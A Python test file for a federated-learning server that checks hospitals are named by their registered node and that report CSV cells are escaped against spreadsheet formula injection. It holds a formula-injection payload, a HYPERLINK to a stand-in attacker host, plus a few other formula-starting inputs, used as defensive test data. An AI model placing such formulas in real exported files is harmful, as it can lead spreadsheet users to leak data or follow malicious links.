"""Who is who in the report, and nothing a hospital sends runs in the operator's spreadsheet."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pytest
import tomli_w
from flwr.common import Code, EvaluateRes, Status
from flwr.server.compat.grid_client_proxy import GridClientProxy

from fedcare.server.checkpoint import CheckpointWriter
from fedcare.server.reference import contract_reference
from fedcare.server.report import METRICS_CSV, write_report
from fedcare.server.resume import ProgressWriter
from fedcare.server.run_directory import RunDirectory
from fedcare.server.run_record import RunRecord
from fedcare.server.server_app import reference_for
from fedcare.server.strategy import FedCareStrategy
from fedcare.shared.audit import AuditLog
from fedcare.shared.config.run_config import RunConfig
from fedcare.shared.errors import ConfigError
from fedcare.shared.models import build_model
from fedcare.shared.serialization import ModelLayout, get_weights
from fedcare.shared.spreadsheet import FORMULA_STARTS, neutralise_cell
from fedcare.simulations.datasets import load_builtin
from fedcare.simulations.hospital_files import demo_contract

FORMULA = '=HYPERLINK("https://evil.example/?x","hospital-1")'


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        (FORMULA, "'" + FORMULA),
        ("+1+1", "'+1+1"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("hospital-1", "hospital-1"),
        ("", ""),
        (-0.5, -0.5),
        (None, None),
        (3, 3),
    ],
)
def test_text_that_would_run_gets_an_apostrophe_and_numbers_stay_numbers(
    value: object, expected: object
) -> None:
    assert neutralise_cell(value) == expected


def _deployment_config(tmp_path: Path, names: str) -> RunConfig:
    dataset = load_builtin(RunConfig.from_flat({}).data.dataset)
    assert dataset.bounds is not None
    contract = tomli_w.dumps(demo_contract(dataset.data.feature_names, dataset.bounds))
    return RunConfig.from_flat(
        {"contract": contract, "hospital-names": names, "out-dir": str(tmp_path / "run")}
    )


def _strategy(config: RunConfig, run_dir: RunDirectory, record: RunRecord) -> FedCareStrategy:
    reference = contract_reference(config.data.contract, config.training)
    model = build_model(
        config.training.model,
        input_shape=reference.input_shape,
        input_kind=reference.input_kind,
        task=reference.task,
        seed=0,
    )
    layout = ModelLayout.of(model)
    return FedCareStrategy(
        config=config,
        initial_weights=get_weights(model),
        layout=layout,
        minimum_hospitals=1,
        record=record,
        checkpoints=CheckpointWriter(run_dir, layout, {}),
        test_evaluator=None,
        audit=AuditLog(run_dir.path / "audit.jsonl", actor="aggregator"),
        progress=ProgressWriter(run_dir, record, config=config, layout=layout, ledger_run="1"),
    )


def _reply(
    node_id: int, claimed: str, rows: int, auroc: float
) -> tuple[GridClientProxy, EvaluateRes]:
    metrics = {"hospital": claimed, "auroc": auroc, "loss": -0.25}
    res = EvaluateRes(Status(Code.OK, "Success"), -0.25, rows, metrics)
    return GridClientProxy(node_id, None, 1), res  # type: ignore[arg-type]


def test_hospitals_are_named_by_their_registered_node_never_by_their_reply(
    tmp_path: Path,
) -> None:
    config = _deployment_config(tmp_path, "11=hospital-1,12=hospital-2")
    assert not config.data.simulated
    run_dir, record = RunDirectory(tmp_path / "run"), RunRecord()
    strategy = _strategy(config, run_dir, record)
    replies = [
        _reply(11, "hospital-1", 100, 0.9),
        _reply(12, FORMULA, 50, 0.1),  # a registered node posing as another hospital
        _reply(13, "hospital-2", 7, 0.5),  # a node nobody registered under a name
    ]
    strategy.aggregate_evaluate(1, replies, [])
    hospitals = record.round(1).hospitals
    assert sorted(hospitals) == ["hospital-1", "hospital-2", "node 13"]
    assert hospitals["hospital-1"].num_eval_examples == 100
    assert hospitals["hospital-2"].num_eval_examples == 50
    assert hospitals["node 13"].num_eval_examples == 7
    reference = contract_reference(config.data.contract, config.training)
    write_report(
        run_dir,
        config=config,
        record=record,
        reference=reference,
        status="completed",
        audit_head=(0, "0" * 64),
    )
    written = (run_dir.path / METRICS_CSV).read_text()
    assert "HYPERLINK" not in written
    for path in run_dir.path.rglob("*"):
        if path.is_file() and path.suffix in (".json", ".jsonl", ".csv"):
            assert "HYPERLINK" not in path.read_text(), path


def test_a_deployed_run_that_names_no_hospital_is_refused_before_any_reply(
    tmp_path: Path,
) -> None:
    # Without the registry's names a hospital could claim another's name in its replies.
    with pytest.raises(ConfigError, match="hospital-names.*`fedcare run`"):
        reference_for(_deployment_config(tmp_path, names=""))
    assert reference_for(_deployment_config(tmp_path, names="7=hospital-1")).task is not None


def test_every_text_cell_of_metrics_csv_is_neutralised(tmp_path: Path) -> None:
    config = _deployment_config(tmp_path, "")
    record = RunRecord()
    round_record = record.round(1)
    for name in (FORMULA, "-A1", "@x", "hospital-1"):
        hospital = round_record.hospital(name)
        hospital.evaluation = {"auroc": 0.7, "loss": -0.5}
        hospital.num_eval_examples = 10
    run_dir = RunDirectory(tmp_path / "run")
    write_report(
        run_dir,
        config=config,
        record=record,
        reference=contract_reference(config.data.contract, config.training),
        status="completed",
        audit_head=(0, "0" * 64),
    )
    rows = list(csv.DictReader(io.StringIO((run_dir.path / METRICS_CSV).read_text())))
    scopes = sorted(row["scope"] for row in rows)
    assert scopes == sorted(["'" + FORMULA, "'-A1", "'@x", "hospital-1"])
    for row in rows:
        for column, cell in row.items():
            if cell.startswith(FORMULA_STARTS):
                float(cell)  # only a number may start with '-' (a negative loss)
                assert column != "scope"
